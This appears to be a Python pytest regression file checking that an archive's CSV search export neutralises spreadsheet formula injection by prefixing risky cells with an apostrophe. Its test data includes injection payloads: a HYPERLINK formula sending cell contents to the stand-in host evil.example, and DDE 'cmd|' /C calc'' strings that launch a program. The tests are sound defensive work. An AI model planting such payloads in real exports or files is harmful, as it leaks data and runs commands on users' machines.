"""Issue 14: "an article titled =HYPERLINK(…) goes into export.csv as a live formula". Now it stays text."""
import csv
import io

import pytest

from archive.models import Tag
from archive.security.spreadsheet import safe_cell
from tests.factories import add_article

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"حلب")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["حلب", "", "a=b", "2018-03-01T10:00:00+03:00", 42, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_search_export_writes_hostile_titles_sources_and_tags_as_text(client, search_index):
    tag = Tag.objects.create(kind=Tag.Kind.PERSON, name="=cmd|' /C calc'!A0 حلب")
    for number, title in enumerate(HOSTILE):
        add_article(f"{title} حلب", f"نص عن حلب رقم {number}", source="@مصدر", tags=[tag])
    search_index.rebuild()
    response = client.get("/search/export.csv", {"q": "حلب"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert len(rows) == len(HOSTILE)
    assert {row[1] for row in rows} == {f"'{title} حلب" for title in HOSTILE}
    assert {row[3] for row in rows} == {"'@مصدر"}
    assert {row[4] for row in rows} == {"'=cmd|' /C calc'!A0 حلب"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
